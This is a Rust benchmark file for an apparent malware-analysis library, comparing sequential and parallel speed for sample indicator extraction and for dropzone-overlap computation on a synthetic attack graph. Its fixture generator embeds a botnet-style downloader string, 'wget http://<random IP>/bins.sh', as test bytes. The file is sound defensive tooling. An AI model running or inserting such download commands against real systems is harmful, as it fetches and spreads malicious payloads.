//! Parallel vs. sequential throughput on the two data-parallel hot paths:
//! corpus extraction and pairwise overlap.
//!
//! Built with default features, `*_seq` runs the sequential loop and the
//! plain entry points run on rayon. With `--no-default-features` both
//! benches exercise the same sequential path (useful as a sanity baseline).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};

use atlas_core::affinity::{
    pairwise_overlap, pairwise_overlap_seq, AttackGraph, Edge, OverlapMetric,
};
use atlas_core::extract::{extract_corpus, extract_corpus_seq, ExtractionPolicy, SampleInput};

/// Deterministic pseudo-random bytes, xorshift-based; no rng crate needed
/// for bench fixtures.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
}

fn synthetic_corpus(samples: usize, sample_len: usize) -> Vec<SampleInput> {
    let mut rng = XorShift(0x00C0_FFEE_D00D_5EED);
    (0..samples)
        .map(|i| {
            let mut bytes = Vec::with_capacity(sample_len + 64);
            while bytes.len() < sample_len {
                match rng.next() % 5 {
                    0 => bytes.extend_from_slice(
                        format!(
                            "wget http://{}.{}.{}.{}/bins.sh ",
                            60 + rng.next() % 60,
                            rng.next() % 256,
                            rng.next() % 256,
                            rng.next() % 256
                        )
                        .as_bytes(),
                    ),
                    1 => {
                        for _ in 0..4 {
                            bytes.extend_from_slice(
                                format!(
                                    "{}.{}.{}.{} ",
                                    60 + rng.next() % 60,
                                    rng.next() % 256,
                                    rng.next() % 256,
                                    rng.next() % 256
                                )
                                .as_bytes(),
                            );
                        }
                    }
                    2 => bytes.extend_from_slice(b"41.x.x.x 189.34.5.%d "),
                    _ => {
                        for _ in 0..16 {
                            bytes.push((rng.next() % 256) as u8);
                        }
                    }
                }
            }
            SampleInput::Bytes {
                name: format!("bench-{i}"),
                family_label: None,
                bytes,
            }
        })
        .collect()
}

fn synthetic_graph(dropzones: u32, targets_per: u32) -> AttackGraph {
    let mut rng = XorShift(0xFACE_FEED_BEEF_CAFE);
    let mut edges = Vec::new();
    for d in 0..dropzones {
        for _ in 0..targets_per {
            edges.push(Edge {
                dropzone: std::net::Ipv4Addr::from(0x3C00_0000 + d),
                target: std::net::Ipv4Addr::from(0x4600_0000 + (rng.next() % 2000) as u32),
                sample_id: format!("s{d}"),
            });
        }
    }
    AttackGraph::from_edges(edges)
}

fn bench_extract(c: &mut Criterion) {
    let corpus = synthetic_corpus(192, 4096);
    let total_bytes: usize = corpus
        .iter()
        .map(|s| match s {
            SampleInput::Bytes { bytes, .. } => bytes.len(),
            SampleInput::File { .. } => 0,
        })
        .sum();
    let policy = ExtractionPolicy::default();

    let mut group = c.benchmark_group("extract_corpus");
    group.throughput(Throughput::Bytes(total_bytes as u64));
    group.bench_with_input(
        BenchmarkId::new("sequential", corpus.len()),
        &corpus,
        |b, corpus| b.iter(|| extract_corpus_seq(corpus, &policy, None)),
    );
    group.bench_with_input(
        BenchmarkId::new("parallel", corpus.len()),
        &corpus,
        |b, corpus| b.iter(|| extract_corpus(corpus, &policy, None)),
    );
    group.finish();
}

fn bench_overlap(c: &mut Criterion) {
    let graph = synthetic_graph(192, 64);
    let pairs = {
        let n = graph.dropzone_targets().len() as u64;
        n * (n - 1) / 2
    };

    let mut group = c.benchmark_group("pairwise_overlap");
    group.throughput(Throughput::Elements(pairs));
    group.bench_function("sequential", |b| {
        b.iter(|| pairwise_overlap_seq(&graph, OverlapMetric::Jaccard, false))
    });
    group.bench_function("parallel", |b| {
        b.iter(|| pairwise_overlap(&graph, OverlapMetric::Jaccard, false))
    });
    group.finish();
}

criterion_group!(benches, bench_extract, bench_overlap);
criterion_main!(benches);
